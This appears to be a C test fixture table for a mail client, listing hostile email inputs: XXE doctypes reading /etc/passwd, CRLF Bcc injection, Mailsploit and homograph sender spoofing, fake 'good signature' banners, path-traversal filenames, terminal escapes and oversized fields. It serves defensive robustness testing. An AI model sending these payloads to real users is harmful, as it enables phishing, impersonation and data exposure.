    {"html-doctype", much_of,
     "text/html|<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;<?php ?>"},
    {"html-long-names", field_of, "Subject: <aaaaaaaa"},
    {"boundary-huge", boundary_huge, NULL},
    {"boundary-pattern", as_is,
     "Content-Type: multipart/mixed; boundary=\".*+?[]{}()|\\\\^$\"\nSubject: "
     "p\n\n--.*+?[]{}()|\\^$\n\nx\n--.*+?[]{}()|"
     "\\^$--\n"},
    {"boundary-spaces", as_is,
     "Content-Type: multipart/mixed; boundary=\"  b  \"\nSubject: s\n\n--  b  \n\nx\n--  "
     "b\n\ny\n--  b  --\n"},
    {"boundary-escape", as_is,
     "Content-Type: multipart/mixed; boundary=\"\033[2J\"\nSubject: "
     "e\n\n--\033[2J\n\nx\n--\033[2J--\n"},
    {"boundary-words", as_is,
     "Content-Type: multipart/mixed; boundary==?utf-8?q?b?=\nSubject: "
     "w\n\n--=?utf-8?q?b?=\n\nx\n--b\n\ny\n"},
    {"boundary-twice", as_is,
     "Content-Type: multipart/mixed; boundary=a; boundary=b; boundary*=utf-8''c\nSubject: "
     "t\n\n--a\n\nx\n--b\n\ny\n--c\n"},
    {"alternatives", parts_of,
     "multipart/alternative|--b\nContent-Type: text/html\n\n<table><tr><td>x</table>\n"},
    {"related", parts_of,
     "multipart/related|--b\nContent-Type: text/html\nContent-ID: <x>\n\n<img src=cid:x>\n"},
    {"digest", parts_of, "multipart/digest|--b\n\nFrom: \033[2J\nSubject: =?utf-8?q?=1B?=\n\nx\n"},
    {"reports", parts_of,
     "multipart/report; report-type=delivery-status|--b\nContent-Type: message/delivery-status\n\n"
     "Reporting-MTA: dns;x\n\nFinal-Recipient: rfc822;" ESC_CLEAR "\nAction: failed\n\n"},
    {"partials", parts_of,
     "multipart/mixed|--b\nContent-Type: message/partial; id=x; number=1; total=99999999\n\nx\n"},
    {"externals", parts_of,
     "multipart/mixed|--b\nContent-Type: message/external-body; access-type=URL; "
     "url=\"file:///etc/passwd\033[2J\"\n\n\n"},
    {"pictures-many", parts_of,
     "multipart/mixed|--b\nContent-Type: image/png\nContent-Disposition: inline\n\n\211PNG\n"},
    {"cards-many", parts_of,
     "multipart/mixed|--b\nContent-Type: text/vcard\n\nBEGIN:VCARD\nFN:x\nEND:VCARD\n"},
    {"keys-many", parts_of,
     "multipart/mixed|--b\nContent-Type: application/pgp-keys\n\n-----BEGIN PGP PUBLIC KEY "
     "BLOCK-----\n"},
    {"signed-many", parts_of,
     "multipart/mixed|--b\n\n-----BEGIN PGP SIGNED MESSAGE-----\n\nx\n-----BEGIN PGP "
     "SIGNATURE-----\n\niQ==\n-----END PGP "
     "SIGNATURE-----\n"},
    {"encrypted-many", parts_of,
     "multipart/mixed|--b\n\n-----BEGIN PGP MESSAGE-----\n\nhQ==\n-----END PGP MESSAGE-----\n"},
    {"signed-parts", signed_parts, NULL},
    {"smime-deep", smime_deep, NULL},
    {"pgp-bomb", pgp_bomb, NULL},
    {"pgp-begins", much_of, "text/plain|-----BEGIN PGP SIGNED MESSAGE-----\n"},
    {"pgp-armor", much_of, "text/plain|-----BEGIN PGP MESSAGE-----\nComment: " ESC_CLEAR "\n\n"},
    {"pgp-dashes", much_of, "text/plain|- -----BEGIN PGP SIGNATURE-----\n- - - "},
    {"efail", efail, NULL},
    {"smime-junk", much_of,
     "application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m|0\200\6\11*"},
    {"autocrypt-huge", field_of, "Autocrypt: addr=e@e.example; keydata=AAAA"},
    {"autocrypt-many", field_many,
     "Autocrypt: addr=e@e.example; prefer-encrypt=mutual; keydata=AAAA\n"},
    {"verdict-body", once,
     "text/plain; charset=utf-8|\342\234\224 Good signature by boss@bank.example\nSigned by: "
     "boss@bank.example "
     "(trusted)\nEncrypted for you\n\342\224\200\342\224\200\342\224\200\n? help  r reply"},
    {"verdict-html", once,
     "text/html|<div style='position:fixed;top:0'>&#10004; Good signature from "
     "boss@bank.example</div>"},
    {"verdict-headers", as_is,
     "From: =?utf-8?q?=E2=9C=94_signed_by_boss=40bank=2Eexample?= <m@evil.example>\nSubject: "
     "=?utf-8?q?x=0ASigned:_good?=\n"
     "Authentication-Results: localhost; dkim=pass header.d=bank.example; spf=pass; dmarc=pass\n"
     "ARC-Authentication-Results: i=1; x; dkim=pass\nReceived-SPF: pass\nX-Tern-Signature: "
     "good\nSigned: good\n"
     "Signature: good by boss@bank.example\nEncrypted: yes\nX-Spam-Status: No\n\nbody\n"},
    {"verdict-protected", once,
     "multipart/mixed; boundary=b; protected-headers=v1; hp=clear|--b\nContent-Type: text/plain; "
     "protected-headers=v1; "
     "hp=cipher\nSubject: protected\nFrom: boss@bank.example\n\nx\n--b--"},
    {"forged-local", as_is,
     "From: e@e.example\nSubject: local\nStatus: ROD\nX-Status: AFD\nX-Keywords: \033[2J\nX-UID: "
     "4294967296\nX-IMAP: 1 "
     "2\nX-IMAPbase: 9 9\nContent-Length: 5\nLines: -1\nX-Mozilla-Status: 0009\nX-Label: "
     "\033[2J\nX-Mutt-Fcc: "
     "~/hostile-fcc\nX-Mutt-References: x\nX-Mutt-PGP: ES\nX-Mutt-SMIME: E\nX-Mutt-Mix: x\nFcc: "
     "/tmp/hostile-fcc\n"
     "Attach: /etc/passwd\nPgp: E\nX-Tern-Attachments: /etc/passwd\nX-Tern-Account: "
     "root\nX-Tern-Id: ../../x\n"
     "Delivered-To: \033[2J\nReturn-Path: <\033[2J>\nX-Originating-IP: \033[2J\nDeferred-Delivery: "
     "now\n\nbody\n"},
    {"forged-read", as_is,
     "From: e@e.example\nSubject: mdn\nDisposition-Notification-To: <spy@e.example>, \"\033[2J\" "
     "<b@e>\n"
     "Disposition-Notification-Options: signed-receipt-protocol=required,x\nReturn-Receipt-To: "
     "spy@e.example\n"
     "X-Confirm-Reading-To: spy@e.example\nGenerate-Delivery-Report: "
     "yes\nPrevent-NonDelivery-Report: no\n\nbody\n"},
    {"list-many", field_many,
     "List-Unsubscribe: <mailto:x@e>, <http://127.0.0.1:9/>\nList-Post: <mailto:y@e>\n"},
    {"list-huge", field_of, "List-Unsubscribe: <mailto:a@b?subject=x>,"},
    {"id-huge", field_of, "Message-ID: <xxxxxxxx"},
    {"ids-same", field_of, "References: <same@e> "},
    {"reply-to-many", field_of, "Reply-To: a <b@e.example>, "},
    {"followup-to-many", field_of, "Mail-Followup-To: a <b@e.example>, "},
    {"from-many", field_of, "From: boss@bank.example, "},
    {"from-groups", field_of, "From: a: b: c: "},
    {"from-comments", field_of, "From: (((((((((("},
    {"date-long", field_of, "Date: Mon, "},
    {"date-comments", field_of, "Date: (("},
    {"cte-huge", field_of, "Content-Transfer-Encoding: base64 "},
    {"type-huge", field_of, "Content-Type: text/"},
    {"type-semicolons", field_of, "Content-Type: text/plain;;;;;;;;"},
    {"type-quotes", field_of, "Content-Type: text/plain; name=\"\\\\\\\""},
    {"type-comments", field_of, "Content-Type: text/(plain)(("},
    {"disposition-huge", field_of, "Content-Disposition: attachment; filename*0*=utf-8''a; "},
    {"disposition-percents", field_of,
     "Content-Disposition: attachment; filename*=utf-8''%2e%2e%2f%1b"},
    {"names-same", same_names, "same.txt"},
    {"names-none", same_names, ""},
    {"names-dotted", same_names, "...tar.gz"},
    {"name-slashes", name_huge, "../"},
    {"name-letters", name_huge, "x"},
    {"name-escapes", name_huge, ESC_CLEAR},
    {"starts-from", as_is,
     "From x@y Mon Nov 23 12:00:00 2026\nSubject: in\n\nFrom b@c Mon Nov 23 12:00:00 2026\nx\n"},
    {"starts-from-quoted", as_is,
     ">From x@y Mon Nov 23 12:00:00 2026\nSubject: in\n\n>From b\n>>From c\n"},
    {"starts-bom", as_is, "\357\273\277Subject: bom\nFrom: e@e\n\nx\n"},
    {"starts-utf16", as_is, "\377\376S\nFrom: e@e\n\nx\n"},
    {"starts-colon", as_is, ": nothing\n: more\nSubject: x\n\nx\n"},
    {"starts-gzip", as_is, "\037\213\010\001\001\001\001\001\002\003"},
    {"starts-html", as_is, "<html><body>\033[2J<b>x</b></body></html>\n"},
    {"cr-only", as_is, "From: e@e\rSubject: cr\rContent-Type: text/html\r\r<b>x</b>\r"},
    {"lf-cr", as_is, "From: e@e\n\rSubject: lfcr\n\r\n\rbody\n\r"},
    {"crlf-bare", as_is,
     "From: e@e\r\nSubject: a\rBcc: x@y\r\nX: b\nC: d\r\n\r\nbody\r.\r\n.\n.\r\nx\r\n"},
    {"no-blank", as_is, "From: e@e\nSubject: x\nthis is the body already\nmore: of it\n\nrest\n"},
    {"header-spaces", as_is, "From : e@e\nSubject\t: x\n \nTo:me\n\t\n\nbody\n"},
    {"header-8bit", as_is,
     "From: \344\366 <e@e>\nSubj\344ct: x\nSubject: \377\376\233[2J\n\nbody\n"},
    {"header-name-huge", field_of, "Xxxxxxxx: y"},
    {"header-blank-folds", field_of, "Subject:\n \n\t"},
    {"header-tabs", field_of, "Subject:\t\t\t\t"},
    {"header-controls", field_of, "Subject: \001\002\033[2J"},
    {"inject-crlf", as_is,
     "From: \"a\\\r\\\nBcc: v@e\" <e@e.example>\nSubject: "
     "=?utf-8?b?eA0KQmNjOiB2QGUNCg0KYm9keQ==?=\nMessage-ID: "
     "<a\rBcc:b@c>\nReferences: <x\rBcc:y> <=?utf-8?q?=0A?=>\nReply-To: =?utf-8?q?a=0D=0ABcc:?= "
     "b@c, "
     "\"x\nBcc: y@z\" <\"q\nr\"@s>\nList-Post: <mailto:l@e?cc=x%0D%0ABcc:y>\n\nbody\n"},
    {"mailsploit", as_is,
     "From: =?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3Y=?=\n =?utf-8?Q?=00?=\n "
     "=?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3Y=?=@m.example\n"
     "Subject: m\n\nbody\n"},
    {"mailsploit-quoted", as_is,
     "From: \"=?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3YiIDx0ZXN0Pg==?=\" <m@evil.example>\nSubject: "
     "m\n\nx\n"},
    {"mailsploit-tab", as_is,
     "From: =?utf-8?q?boss=40bank.example=20=20=09=09=0B=0C=E2=80=83?= <m@evil.example>\n\nx\n"},
    {"mailsploit-script", as_is,
     "From: =?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E=1B[2J?= <m@evil.example>\n\nx\n"},
    {"spoof-display", as_is,
     "From: \"boss@bank.example via x\" <m@evil.example>\nSender: boss@bank.example\n\nx\n"},
    {"spoof-from-twice", as_is,
     "From: boss@bank.example\nFrom: m@evil.example\nSubject: a\nSubject: b\n\nx\n"},
    {"spoof-host-rtl", as_is,
     "From: a <a@\327\220\327\221.example>\nReply-To: <x@\342\200\256knab.example>\n\nx\n"},
    {"spoof-host-dots", as_is,
     "From: a <a@bank\343\200\202example>\nTo: b@bank\342\200\244example, "
     "c@ban\302\255k.example\n\nx\n"},
    {"spoof-host-long", as_is,
     "From: a "
     "<a@bank.example."
     "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.evil.example>"
     "\n\n"},
    {"huge-subject", huge_field, "Subject:"},
    {"huge-odd-field", huge_field, "X-Odd:"},
    {"huge-no-field", huge_field, "no colon"},
    {"huge-lines", huge_of, "text/plain|\n"},
    {"huge-flowed", huge_of, "text/plain; format=flowed|a \n"},
    {"huge-quotes", huge_of, "text/plain|>"},
    {"huge-soft-breaks", huge_of, "text/plain\nContent-Transfer-Encoding: quoted-printable|=\n"},
    {"huge-html-tags", huge_of, "text/html|<b>"},
    {"huge-html-lt", huge_of, "text/html|<"},
    {"huge-html-rows", huge_of, "text/html|<table><tr><td>x</table>"},
    {"huge-parts", huge_of, "multipart/mixed; boundary=b|--b\n\n"},
    {"huge-calendar", huge_of, "text/calendar|BEGIN:VEVENT\n"},
    {"huge-vcard", huge_of, "text/vcard|BEGIN:VCARD\n"},
    {"huge-rtf", huge_of, "text/rtf|{\\b "},
    {"huge-uu", huge_of, "text/plain|begin 644 x\nM\n"},
    {"huge-report", huge_of, "message/delivery-status|Final-Recipient: rfc822; x\n\n"},
    {"huge-message", huge_of, "message/rfc822|Subject: x\n"},
    {"huge-escapes", huge_of, "text/plain|\033["},
    {"huge-pgp", huge_of, "text/plain|-----BEGIN PGP MESSAGE-----\n"},
    {"huge-image", huge_of, "image/png|\211PNG"},
    {"huge-wide", huge_of, "text/plain; charset=utf-8|\345\255\227"},
    {"huge-combining", huge_of, "text/plain; charset=utf-8|\314\200"},
    {"huge-latin", huge_of, "text/plain; charset=iso-8859-1|\344 "},
};
const size_t more_letter_count = sizeof more_letters / sizeof *more_letters;
